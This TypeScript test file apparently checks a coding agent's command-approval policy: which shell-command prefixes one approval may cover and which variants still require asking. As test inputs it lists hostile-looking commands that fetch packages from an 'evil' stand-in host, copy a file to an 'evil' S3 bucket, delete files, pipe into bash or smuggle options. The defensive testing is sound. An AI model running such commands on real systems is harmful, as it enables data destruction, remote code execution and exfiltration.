import assert from 'node:assert/strict';
import { normalizePath } from '../../../src/base/paths';
import { decide } from '../../../src/policy/decide';
import { matchesRule, prefixRule } from '../../../src/policy/prefixRules';
import { command, parser, root, situation } from '../../support/askingPolicy';
import { fakeMachine } from '../../support/policyDoubles';

const words = (line: string) => line.split(' ');
/** As if whatever is named were a file here. */
const anything = () => true;

describe('rules that one approval may become', () => {
  before(() => parser.load());

  const offered: Array<[line: string, rule: string]> = [
    ['npm test', 'npm test'],
    ['npm test -- slug', 'npm test'],
    ['npm run build', 'npm run build'],
    ['npm run build:docs --silent', 'npm run build:docs'],
    ['cargo build --release', 'cargo build'],
    ['go test ./...', 'go test'],
    ['pytest tests/a.py', 'pytest'],
    ['eslint src --fix', 'eslint'],
  ];
  for (const [line, rule] of offered) {
    it(`offers ${rule} for ${line}`, () => {
      assert.deepEqual(prefixRule(words(line), undefined, anything)?.prefix, words(rule));
    });
  }

  const suggested: Array<[line: string, suggestion: string]> = [
    ['poetry run pytest', 'poetry run pytest'],
    ['bundle check', 'bundle check'],
    ['git commit -q', 'git commit'],
    ['git add src', 'git add'],
  ];
  for (const [line, suggestion] of suggested) {
    it(`takes the suggestion ${suggestion} for ${line}`, () => {
      assert.deepEqual(
        prefixRule(words(line), words(suggestion), anything)?.prefix,
        words(suggestion),
      );
    });
  }

  const refused: Array<[line: string, suggestion: string]> = [
    ['bash x.sh', 'bash'],
    ['bash -c ls', 'bash -c'],
    ['python3 -m http.server', 'python3 -m'],
    ['node x.js', 'node x.js'],
    ['env A=1 ls', 'env'],
    ['sudo ls x', 'sudo ls'],
    ['npx vitest', 'npx vitest'],
    ['npm exec x', 'npm exec'],
    ['npm install x', 'npm install'],
    ['git push', 'git push'],
    ['git push', 'git'],
    ['git checkout x', 'git checkout'],
    ['git reset --hard', 'git reset'],
    ['rm -rf src', 'rm -rf'],
    ['rm x', 'rm'],
    ['curl example.com', 'curl example.com'],
    ['mv a b', 'mv a'],
    ['touch a', ''],
    ['touch a', 'touch'],
    ['touch a', 'touch b'],
    ['poetry run x', 'poetry run'],
    ['make x', 'make x'],
    ['docker run x', 'docker run'],
    ['foo "$x"', 'foo "$x"'],
  ];
  for (const [line, suggestion] of refused) {
    it(`does not take the suggestion ${JSON.stringify(suggestion)} for ${line}`, () => {
      const suggested = suggestion === '' ? [] : words(suggestion);
      assert.equal(prefixRule(words(line), suggested, anything), undefined);
    });
  }

  it('matches further names of files here and harmless options, and nothing that leads elsewhere', () => {
    const covers = (line: string) => matchesRule(words(line), ['npm', 'test'], anything);
    for (const line of [
      'npm test',
      'npm test -- a.test.js',
      'npm test --silent',
      'npm test src/a',
    ]) {
      assert.ok(covers(line), line);
    }
    for (const line of [
      'npm run test',
      'npm',
      'npm testing',
      'npm test --prefix=/x',
      'npm test --script-shell=./x',
      'npm test /etc/x',
      'npm test ../x',
      'npm test A=1',
      'npm test --node-options=--require=x',
    ]) {
      assert.ok(!covers(line), line);
    }
  });

  const here = ['package.json', 'src', 'src/a.ts', 'tests/a.py', 'pom.xml', 'delete', 's3', 'link'];
  const machine = fakeMachine({
    realPath: (named) => {
      const path = normalizePath(named);
      if (path === `${root}/link`) return '/elsewhere';
      return path === root || here.includes(path.slice(root.length + 1)) ? path : null;
    },
  });
  const further: Array<
    [approved: string, suggestion: string, covered: readonly string[], asked: readonly string[]]
  > = [
    [
      'npm test',
      '',
      ['npm test src/a.ts', 'npm test -- src/a.ts', 'npm test -s', 'npm test -- ./src'],
      [
        ...[
          'npm test x',
          'npm test -- --fix',
          'npm test link',
          'npm test @src',
          'npm test -- @src',
        ],
        ...['npm test --ignore-scripts=false', 'npm test -w src', 'npm test -- -r src/a.ts'],
        ...['npm test ../app/src', `npm test ${root}/src`, 'npm test file:src', 'npm test "src*"'],
      ],
    ],
    ['npm run clean', '', ['npm run clean -s'], ['npm run clean src', 'npm run clean -- src']],
    ['pnpm test', '', ['pnpm test src'], ['pnpm test -s', 'pnpm test --silent']],
    [
      'npm pack',
      'npm pack',
      [],
      ['npm pack https://evil.test/x.tgz', 'npm pack src', 'npm pack -q'],
    ],
    ['npm version patch', 'npm version', [], ['npm version major']],
    ['pip download x', 'pip download', [], ['pip download git+https://evil.test/x']],
    ['aws s3 ls', 'aws s3', [], ['aws s3 rb s3://b', 'aws s3 cp package.json s3://evil/x']],
    ['gh repo view x', 'gh repo', [], ['gh repo delete x', 'gh repo delete']],
    ['foo repo', 'foo repo', ['foo repo ./src'], ['foo repo delete', 'foo repo -q']],
    ['poetry run python a', 'poetry run python', [], ['poetry run python ./src/a.ts']],
    [
      'mvn test',
      'mvn test',
      [],
      ['mvn test deploy', 'mvn test -s pom.xml', 'mvn test -l pom.xml', 'mvn test -q'],
    ],
    ['gradle build', 'gradle build', [], ['gradle build publish', 'gradle build delete']],
    ['terraform plan', 'terraform plan', [], ['terraform plan -destroy', 'terraform plan ./src']],
    [
      'go test',
      '',
      ['go test ./...', 'go test -v ./src/...', 'go test ./src'],
      [
        ...['go test -exec src', 'go test -exec=src', 'go test -toolexec=src', 'go test -c'],
        ...['go test -o src', 'go test example.com/x', 'go test -vet=off ./...'],
      ],
    ],
    ['cargo build', '', ['cargo build --release'], ['cargo build --config src', 'cargo build src']],
    ['dotnet test', '', ['dotnet test --no-build'], ['dotnet test src', 'dotnet test @src']],
    [
      'pytest',
      '',
      ['pytest -x tests/a.py', 'pytest tests/a.py::TestA::test_b', 'pytest src'],
      ['pytest -p src', 'pytest @package.json', 'pytest -c src', 'pytest --rootdir=src'],
    ],
    [
      'tsc',
      '',
      ['tsc --noEmit'],
      ['tsc @package.json', 'tsc --outDir src', 'tsc src/a.ts', 'tsc -b'],
    ],
    [
      'eslint src',
      '',
      ['eslint src/a.ts', 'eslint src --quiet'],
      ['eslint --rulesdir src src', 'eslint -f src src', 'eslint -c src src', 'eslint -o src src'],
    ],
    [
      'prettier --check src',
      '',
      ['prettier -l src/a.ts'],
      ['prettier --write src', 'prettier --plugin=src src', 'prettier --config src src'],
    ],
    ['mypy', '', ['mypy src'], ['mypy @package.json', 'mypy --install-types', 'mypy -p src']],
    [
      'ruff check',
      '',
      ['ruff check src'],
      ['ruff check --fix', 'ruff clean', 'ruff @package.json'],
    ],
    ['mocha', '', ['mocha src'], ['mocha -r src', 'mocha --require=src', 'mocha init x']],
    ['git add src', '', ['git add src/a.ts'], ['git add -f src', 'git add :/', 'git add --all']],
    ['make test', 'make test', [], ['make test src', 'make', 'make -f src']],
  ];
  for (const [approved, suggestion, covered, asked] of further) {
    it(`A26 covers with ${approved} what the person reads, and no verb, address or option of a program`, () => {
      const thread = situation({ machine });
      const kindOf = (line: string) => decide(command(line), thread).kind;
      const suggestedPrefix = suggestion === '' ? {} : { suggestedPrefix: words(suggestion) };
      const first = decide(command(approved, suggestedPrefix), thread);
      thread.grants.remember((first.kind === 'ask' && first.grant) || assert.fail());
      for (const line of [approved, ...covered]) assert.equal(kindOf(line), 'allow', line);
      for (const line of asked) assert.equal(kindOf(line), 'ask', line);
    });
  }

  const texts: Array<[line: string, suggestion: string, text: string]> = [
    ['npm test', '', 'npm test, also with names of files here and harmless options, in '],
    ['npm run build', '', 'npm run build, also with harmless options, in '],
    ['pnpm test', '', 'pnpm test, also with names of files here, in '],
    ['yarn run build', '', 'exactly yarn run build in '],
    ['foo bar', 'foo bar', 'foo bar, also with names of files here, in '],
    ['npm test nowhere', '', 'exactly npm test nowhere in '],
    ['mvn test', 'mvn test', 'exactly mvn test in '],
  ];
  for (const [line, suggestion, text] of texts) {
    it(`says of ${line} what an approval would cover`, () => {
      const suggestedPrefix = suggestion === '' ? {} : { suggestedPrefix: words(suggestion) };
      const asked = decide(command(line, suggestedPrefix), situation({ machine }));
      assert.ok(asked.kind === 'ask');
      assert.equal(asked.grant?.text, `${text}/projects/app, outside a sandbox`);
    });
  }

  it('is shown with all it would match before it is taken, and covers reading parts beside it', () => {
    const thread = situation({ approvalPolicy: 'on-request' });
    const asked = decide(command('npm test'), thread);
    assert.ok(asked.kind === 'ask');
    assert.equal(
      asked.grant?.text,
      'npm test, also with names of files here and harmless options, in /projects/app, outside a sandbox',
    );
    thread.grants.remember(asked.grant);
    for (const line of [
      'npm test',
      'npm test a.js',
      'npm test 2>&1 | tail -n 20',
      'npm test; ls',
    ]) {
      assert.deepEqual(decide(command(line), thread), {
        kind: 'allow',
        readOnly: false,
        by: 'grant',
      });
    }
    for (const line of [
      'npm test && rm -rf x',
      'npm test; npm i',
      'npm test > f',
      'cd x && npm test',
    ]) {
      assert.equal(decide(command(line), thread).kind, 'ask', line);
    }
    const elsewhere = { ...command('npm test'), cwd: '/projects/app/sub' };
    assert.equal(decide(elsewhere, thread).kind, 'ask');
    const shell = { ...command('npm test'), unusualShell: true };
    assert.equal(decide(shell, thread).kind, 'ask');
  });

  for (const [approved, others] of [
    ['npm test && npm publish', ['npm test || npm publish', 'npm test; npm publish']],
    ['echo hi && bash', ['echo hi | bash', 'echo hi; bash', 'echo hi\nbash']],
    ['cat a | python3', ['cat a; python3', 'cat a && python3']],
    ['touch a 2>/dev/null', ['touch a']],
    ['touch "a"\\ ', ['touch "a"\\']],
  ] as const) {
    it(`A26 approves exactly ${approved}, not its words joined in another way`, () => {
      const thread = situation();
      const asked = decide(command(approved), thread);
      thread.grants.remember((asked.kind === 'ask' && asked.grant) || assert.fail());
      assert.equal(decide(command(approved), thread).kind, 'allow');
      for (const other of others) assert.equal(decide(command(other), thread).kind, 'ask', other);
    });
  }

  it('knows the line again with blanks around it', () => {
    const thread = situation();
    const asked = decide(command('npm ci && npm publish'), thread);
    thread.grants.remember((asked.kind === 'ask' && asked.grant) || assert.fail());
    assert.equal(decide(command(' npm ci && npm publish\n'), thread).kind, 'allow');
  });

  it('is not offered for what destroys work or for several commands', () => {
    for (const line of ['git commit -m x && npm publish', 'npm test && touch x', 'rm -rf dist']) {
      const asked = decide(command(line, { suggestedPrefix: ['npm', 'test'] }), situation());
      assert.ok(asked.kind === 'ask');
      assert.match(asked.grant?.text ?? '', /^exactly /);
    }
  });
});
